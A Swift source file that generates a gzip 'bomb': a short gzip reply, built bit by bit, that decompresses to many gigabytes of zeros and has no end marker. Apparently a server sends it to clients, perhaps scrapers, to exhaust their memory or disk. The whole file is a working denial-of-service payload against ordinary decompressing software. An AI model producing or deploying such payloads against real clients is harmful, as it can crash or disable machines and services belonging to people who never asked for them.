// GzipBomb: a small reply that decompresses to gigabytes.

import Foundation

/// Returns zeros that are compressed with gzip, by hand: the package has no compressor.
enum GzipBomb {
    /// Returns a stream that decompresses to this many mebibytes of zeros: a zero, then copies of 258 bytes each. It
    /// has no end, which a client with a limit does not reach.
    static func make(mebibytes: Int) -> Data {
        var bits = Bits()
        // A final block with the fixed codes, and the zero.
        bits.add(0b1, count: 1)
        bits.add(0b01, count: 2)
        bits.addCode(0x30, count: 8)
        for _ in 0..<16 {
            // Length 258 is code 285, without more bits; distance 1 is code 0.
            bits.addCode(0b1100_0101, count: 8)
            bits.addCode(0, count: 5)
        }
        // Eight copies take 13 bytes.
        let head: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
        let period = Array(bits.bytes[2..<15])
        let periods = repeatElement(period, count: (mebibytes << 20) / 258 / 8)
        return Data(head + bits.bytes[..<2]) + Data(periods.joined())
    }

    private struct Bits {
        var bytes = Data()
        private var current: UInt8 = 0
        private var count = 0

        init() {}

        mutating func add(_ bits: UInt, count: Int) {
            for place in 0..<count { add((bits >> place) & 1) }
        }

        /// Huffman codes start with the most significant bit.
        mutating func addCode(_ code: UInt, count: Int) {
            for place in (0..<count).reversed() { add((code >> place) & 1) }
        }

        private mutating func add(_ bit: UInt) {
            current |= UInt8(bit) << count
            count += 1
            if count == 8 {
                bytes.append(current)
                (current, count) = (0, 0)
            }
        }
    }
}
